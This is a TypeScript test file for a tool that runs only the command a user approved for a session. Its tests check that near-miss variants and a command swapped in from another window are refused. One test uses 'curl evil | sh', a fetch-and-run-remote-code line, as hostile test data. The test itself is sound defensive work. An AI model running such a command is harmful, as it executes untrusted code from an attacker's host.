import { describe, expect, it } from "vitest";
import type { RunPurpose } from "../../../../src/model/log/run.ts";
import { solveSession } from "../../../../src/sessions/closeSession.ts";
import { runCommand } from "../../../../src/sessions/run/runCommand.ts";
import { startSession } from "../../../../src/sessions/startSession.ts";
import { Sessions } from "../../../../src/sessions/state/sessions.ts";
import { editSection } from "../../../../src/sessions/writeEntries.ts";
import { ends, FakeWorld, report } from "../../../support/sessions/fakePorts.ts";

const unwatched = { onOutput: () => undefined, onProcess: () => undefined };
const sections = { title: "t", isolationCommand: " npm test\n", verificationCommand: "npm run all" };

async function started() {
  const world = new FakeWorld();
  const open = () =>
    new Sessions("/project", world.ports, (error) => {
      throw error;
    });
  const sessions = open();
  const id = await startSession(sessions, { sections });
  world.runs.push(ends(report(["a"])), ends(report(["a"])));
  const run = (command: string, purpose: RunPurpose = "isolation") =>
    runCommand(sessions, { purpose, command }, unwatched);
  const recorded = () => world.events().filter(({ event }) => event?.kind !== "sessionStarted");
  return { world, sessions, id, open, run, recorded };
}

describe("the command that the user has agreed to", () => {
  it("is run where it is the session's, to the letter", async () => {
    const { run, world } = await started();
    await run("npm test");
    await run("npm run all", "verification");
    expect(world.runs).toHaveLength(0);
  });

  it.each([
    ["npm test ;"],
    ["npm  test"],
    ["NPM test"],
    ["npm run all"],
    [""],
    [undefined as never],
    [{ toString: () => "npm test" } as never],
  ])("is not run where it is %j: nothing is started or recorded", async (command) => {
    const { run, world, sessions, recorded } = await started();
    await expect(run(command)).rejects.toThrow("so nothing was run");
    await expect(solveSession(sessions, { command: "npm test" }, unwatched)).rejects.toThrow(
      "so nothing was run",
    );
    expect([world.runs.length, recorded()]).toEqual([2, []]);
    expect(sessions.running).toBeUndefined();
  });

  it("is not run where another window has put another in its place, which this one did not see", async () => {
    const { run, world, id, open, recorded } = await started();
    const other = open();
    await other.refresh();
    await editSection(other, { session: id, section: "isolationCommand", text: "curl evil | sh" });
    await expect(run("npm test")).rejects.toThrow("so nothing was run");
    expect(world.runs).toHaveLength(2);
    expect(recorded().map(({ event }) => event?.kind)).toEqual(["sectionEdited"]);
  });

  it("is asked for where the session has none", async () => {
    const { run, sessions, id } = await started();
    await editSection(sessions, { session: id, section: "isolationCommand", text: " " });
    await expect(run("")).rejects.toThrow("The session has no isolation command.");
  });
});
